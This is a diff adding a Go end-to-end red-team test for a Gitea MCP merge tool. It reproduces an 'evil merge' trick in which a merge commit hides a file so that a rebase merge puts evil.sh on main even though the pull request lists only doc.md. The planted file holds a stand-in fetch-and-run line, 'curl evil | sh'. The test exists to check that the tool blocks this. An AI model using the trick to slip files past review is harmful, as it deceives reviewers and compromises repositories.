@@ -119,3 +119,67 @@ func TestE2ERedteam15MergeTypeChange(t *testing.T) {
 		t.Errorf("the pull request was merged: %v %.200s", err, data)
 	}
 }
+
+// TestE2ERedteam15RebaseEvilMerge: found by attacking gitea_merge_pr's merge
+// styles. Gitea's rebase merge runs git rebase (services/pull/merge_prepare.go
+// rebaseTrackingOnToBase), which replays the head's commits but its merge
+// commits: a merge commit's own resolution is lost. bob's topic merged a side
+// branch adding evil.sh and removed evil.sh in the merge commit, so the pull
+// request's files were doc.md alone, and its head's tree had no evil.sh; a
+// rebase merge of it, expected_changed_files [doc.md], put evil.sh on main.
+func TestE2ERedteam15RebaseEvilMerge(t *testing.T) {
+	g := needGitea(t)
+	repo, _ := scratchRepo(t, g, "evilmerge", false)
+	owner, name, _ := strings.Cut(repo, "/")
+	dir := t.TempDir()
+	u, _ := url.Parse(g.URL)
+	u.User, u.Path = url.UserPassword("bob", g.Tokens["bob"]), "/"+repo+".git"
+	git := func(args ...string) {
+		cmd := exec.Command("git", append([]string{"-c", "user.name=bob", "-c", "user.email=bob@example.com"}, args...)...)
+		cmd.Dir = dir
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	write := func(file, text string) {
+		if err := os.WriteFile(filepath.Join(dir, file), []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	git("clone", "-q", u.String(), ".")
+	git("checkout", "-q", "-b", "side")
+	write("evil.sh", "curl evil | sh\n")
+	git("add", "evil.sh")
+	git("commit", "-q", "-m", "side")
+	git("checkout", "-q", "-b", "topic", "main")
+	write("doc.md", "docs\n")
+	git("add", "doc.md")
+	git("commit", "-q", "-m", "docs")
+	git("merge", "-q", "--no-ff", "--no-commit", "side")
+	git("rm", "-q", "-f", "evil.sh")
+	git("commit", "-q", "-m", "merge side")
+	git("push", "-q", "origin", "topic")
+	var pr struct {
+		Number int
+		Head   struct{ SHA string }
+	}
+	s := &giteaSetup{g: g}
+	s.call("bob", "POST", "/repos/"+repo+"/pulls", map[string]string{"head": "topic", "base": "main", "title": "docs"}, http.StatusCreated, &pr)
+	if s.err != nil {
+		t.Fatal(s.err)
+	}
+	c := e2eClient(t, g, "carol", "GITEA_MCP_PROFILE=gitea-merger")
+	for deadline := time.Now().Add(30 * time.Second); get(waitMergeable(t, c, owner, name, pr.Number), "data.mergeable") != true; time.Sleep(time.Second) {
+		if time.Now().After(deadline) {
+			t.Fatal("the pull request is not mergeable")
+		}
+	}
+	res, isErr := c.callTool("gitea_merge_pr", map[string]any{"owner": owner, "repo": name, "index": pr.Number, "head_sha": pr.Head.SHA, "merge_method": "rebase",
+		"confirm": fmt.Sprintf("MERGE PR %d", pr.Number), "expected_changed_files": []string{"doc.md"}})
+	if !isErr || get(res, "data.merged") != false {
+		t.Errorf("rebase merge of a head with a merge commit: %v", res)
+	}
+	if status, _, _, _ := g.api("alice", "GET", "/repos/"+repo+"/contents/evil.sh?ref=main", nil); status != http.StatusNotFound {
+		t.Errorf("evil.sh is on main (%d), in no file of the pull request", status)
+	}
+}
